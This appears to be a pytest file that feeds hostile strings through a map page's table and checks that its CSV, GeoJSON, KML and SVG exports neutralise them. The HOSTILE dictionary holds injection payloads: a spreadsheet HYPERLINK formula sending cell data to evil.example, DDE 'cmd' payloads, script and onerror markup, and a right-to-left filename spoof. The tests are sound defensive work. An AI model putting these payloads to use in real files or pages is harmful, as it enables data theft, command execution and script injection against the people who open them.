"""What is taken away from a page of hostile values: no formula, no markup, and files that readers can read."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import geopandas
import pandas
import pytest
from playwright.sync_api import expect

import geo
from geo.names import visible
from tests.browser.test_take import KML, SVG, read_csv, take

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after space": "  =1+1",
    "formula after tab": "\t=1+1",
    "formula after a line": "\r\n=1+1",
    "wide formula": "＝1+1",
    "apostrophe": "'=1+1",
    "script end": "</script><script>window.ran=1</script>",
    "image": "<img src=x onerror=window.ran=1>",
    "section end": "]]><b>bold</b>",
    "entity": "&lt;&amp;&#0;&unknown; $[name]",
    "override": "abc\u202egnp.exe\u202c \u2066isolate\u2069",
    "controls": "bell\x07 escape\x1b nul\x00 delete\x7f end\ufffe",
    "surrogate": "lone \ud800 half",
    "quotes": '","x"\n"y\r\nz',
    "separators": "line\u2028paragraph\u2029end",
}


@dataclass(frozen=True)
class Taken:
    """The files by their buttons; what the page complained of, made of the data, and ran."""

    files: dict[str, bytes]
    complaints: list[str]
    elements: int
    ran: object


FILES = ("CSV", "GeoJSON", "KML", "Picture (SVG)")


@pytest.fixture(scope="module")
def taken(browser, tmp_path_factory: pytest.TempPathFactory) -> Taken:
    """All files of a page whose table has each text in every field that takes any; the files say the same each time."""
    rows = []
    for number, text in enumerate(HOSTILE.values()):
        place = {
            "site": f"{number} {text}",
            "name": text,
            "operator": text,
            "host": text,
            "latitude": number,
            "longitude": 38,
        }
        report = {
            "title": text,
            "publisher": text,
            "language": text,
            "note": text,
            "url": f"https://example.org/{text}",
        }
        rows.append(place | report | {"status": "present", "about": "2026-01-01"})
    path = tmp_path_factory.mktemp("hostile") / "map.html"
    geo.PresenceMap(geo.read_table(pandas.DataFrame(rows, dtype=object))).save(path)
    page = browser.new_page(viewport={"width": 1440, "height": 900})
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda said: complaints.append(said.text) if said.type in ("error", "warning") else None)
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-presence=ready]", state="attached")
    expect(page.locator("li.presence")).to_have_count(len(HOSTILE))
    files = {button: take(page, button)[1] for button in (*FILES, "Picture (PNG)")}
    made = page.locator("b, img[onerror], section.printed script").count()
    found = Taken(files, complaints, made, page.evaluate("window.ran"))
    page.close()
    return found


def test_no_cell_of_the_csv_is_a_formula(taken: Taken) -> None:
    text = taken.files["CSV"].decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), strict=True) for cell in row]
    # What a spreadsheet takes for a formula: its sign first, after what it does not see.
    formula = re.compile(r"^[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+\-@＝＋－＠]|^[\t\r]")
    assert [cell for cell in cells if formula.search(cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []


def test_each_row_of_the_csv_has_as_many_cells_as_its_head(taken: Taken) -> None:
    text = taken.files["CSV"].decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert [len(row) for row in rows] == [len(head)] * len(HOSTILE)


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_csv_changes_nothing_but_what_no_file_can_hold(taken: Taken, kind: str) -> None:
    row = read_csv(taken.files["CSV"])[list(HOSTILE).index(kind)]
    # A formula has one apostrophe before it.
    assert row["title"] in (expected(HOSTILE[kind]), f"'{expected(HOSTILE[kind])}")


def expected(text: str) -> str:
    """A text as the page holds it: what cannot be seen or written is replaced."""
    seen = visible(text).encode("utf-8", "replace").decode()
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", seen)


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_geojson_holds_the_text_as_it_is(taken: Taken, kind: str) -> None:
    feature = json.loads(taken.files["GeoJSON"])["features"][list(HOSTILE).index(kind)]
    assert feature["properties"]["name"] == expected(HOSTILE[kind])
    assert feature["properties"]["sources"][0]["note"] == expected(HOSTILE[kind])


@pytest.mark.parametrize(("button", "ending"), [("GeoJSON", "geojson"), ("KML", "kml")])
def test_gdal_reads_the_file(taken: Taken, tmp_path: Path, button: str, ending: str) -> None:
    path = tmp_path / f"taken.{ending}"
    path.write_bytes(taken.files[button])
    layer = {"layer": "Presences"} if button == "KML" else {}
    assert len(geopandas.read_file(path, **layer)) == len(HOSTILE)


class Elements(HTMLParser):
    """The elements that a reader of HTML sees in a text, and the text it sees."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.names.add(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def test_the_descriptions_of_the_kml_have_no_markup_of_the_data(taken: Taken) -> None:
    root = ElementTree.fromstring(taken.files["KML"])  # noqa: S314 - our own
    descriptions = [each.text or "" for each in root.iter(f"{KML}description")]
    assert len(descriptions) > 2 * len(HOSTILE)
    for description in descriptions:
        assert Elements(description).names <= {"br"}
        # Viewers fill in what stands so, before they read it as HTML.
        assert "$[" not in description


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_kml_names_each_site_as_it_is(taken: Taken, kind: str) -> None:
    root = ElementTree.fromstring(taken.files["KML"])  # noqa: S314 - our own
    marks = next(each for each in root.iter(f"{KML}Folder")).findall(f"{KML}Placemark")
    text = expected(HOSTILE[kind])
    assert marks[list(HOSTILE).index(kind)].findtext(f"{KML}name") == f"{text}, {text}"


def test_the_svg_is_valid_and_has_no_element_of_the_data(taken: Taken) -> None:
    root = ElementTree.fromstring(taken.files["Picture (SVG)"])  # noqa: S314 - our own
    assert root.tag == f"{SVG}svg"
    names = {each.tag.removeprefix(SVG) for each in root.iter()}
    assert names.isdisjoint({"script", "img", "image", "foreignObject", "b", "a"})
    assert not [key for each in root.iter() for key in each.attrib if key.lower().startswith("on")]


def test_the_page_made_nothing_of_the_data_and_complained_of_nothing(taken: Taken) -> None:
    assert (taken.complaints, taken.elements, taken.ran) == ([], 0, None)
